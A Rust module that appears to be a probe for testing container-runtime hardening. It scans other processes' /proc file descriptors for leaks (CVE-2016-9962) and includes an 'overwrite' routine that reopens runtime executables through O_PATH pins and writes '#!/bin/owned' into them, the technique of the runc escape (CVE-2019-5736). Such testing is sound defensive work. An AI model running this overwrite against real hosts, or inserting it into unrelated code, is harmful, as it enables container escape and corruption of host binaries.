//! What a hostile program in a container would try against the runtime.
use std::collections::BTreeSet;
use std::fs::{self, File, OpenOptions};
use std::io::{self, Write};
use std::os::fd::AsRawFd;
use std::os::unix::fs::OpenOptionsExt;
use std::thread::sleep;
use std::time::{Duration, Instant};

/// O_PATH of the generic and x86 ABIs (asm-generic/fcntl.h).
const O_PATH: i32 = 0o10_000_000;

/// Every process's directory in /proc except this one's.
fn others() -> Vec<String> {
    let me = std::process::id().to_string();
    let list = fs::read_dir("/proc").into_iter().flatten().flatten();
    let names = list.map(|e| e.file_name().to_string_lossy().into_owned());
    names
        .filter(|n| n.bytes().all(|b| b.is_ascii_digit()) && *n != me)
        .collect()
}

/// `scan SECONDS`: keeps looking at the exe and the fds of all other processes
/// and prints every different target once (CVE-2016-9962).
pub fn scan(args: &[String]) -> io::Result<()> {
    let end = Instant::now() + Duration::from_secs(super::number(args, 0));
    let mut seen = BTreeSet::new();
    println!("scanning");
    while Instant::now() < end {
        for pid in others() {
            if let Ok(exe) = fs::read_link(format!("/proc/{pid}/exe")) {
                seen.insert(format!("exe {}", exe.display()));
            }
            for fd in fs::read_dir(format!("/proc/{pid}/fd"))
                .into_iter()
                .flatten()
                .flatten()
            {
                if let Ok(target) = fs::read_link(fd.path()) {
                    let number = fd.file_name().to_string_lossy().into_owned();
                    seen.insert(format!("fd {number} {}", target.display()));
                }
            }
        }
    }
    for line in seen {
        println!("{line}");
    }
    Ok(())
}

/// `overwrite SECONDS`: pins the exe of each process that appears and tries to write
/// to it through the pin until the process has gone (CVE-2019-5736).
pub fn overwrite(args: &[String]) -> io::Result<()> {
    let end = Instant::now() + Duration::from_secs(super::number(args, 0));
    let mut pins: Vec<(String, File)> = Vec::new();
    let mut result = BTreeSet::new();
    println!("waiting");
    while Instant::now() < end {
        for pid in others() {
            let exe = format!("/proc/{pid}/exe");
            let Ok(target) = fs::read_link(&exe) else {
                continue;
            };
            let target = target.display().to_string();
            let ours = target.starts_with("/bin/");
            if ours || pins.iter().any(|(t, _)| *t == target) {
                continue;
            }
            if let Ok(pin) = OpenOptions::new()
                .read(true)
                .custom_flags(O_PATH)
                .open(&exe)
            {
                pins.push((target, pin));
            }
        }
        for (target, pin) in &pins {
            let path = format!("/proc/self/fd/{}", pin.as_raw_fd());
            match OpenOptions::new().write(true).open(path) {
                Ok(mut f) => {
                    let wrote = f.write(b"#!/bin/owned\n");
                    result.insert(format!("opened {target}: {wrote:?}"));
                }
                Err(e) => {
                    result.insert(format!("refused {target}: {e}"));
                }
            }
        }
        sleep(Duration::from_micros(50));
    }
    for line in result {
        println!("{line}");
    }
    Ok(())
}

/// `try-write PATH...`: opens each for writing and says what came of it. Nothing is written.
pub fn try_write(args: &[String]) -> io::Result<()> {
    for path in args {
        match OpenOptions::new().write(true).open(path) {
            Ok(_) => println!("{path}\twritable"),
            Err(e) => println!("{path}\t{}", e.raw_os_error().unwrap_or(0)),
        }
    }
    Ok(())
}
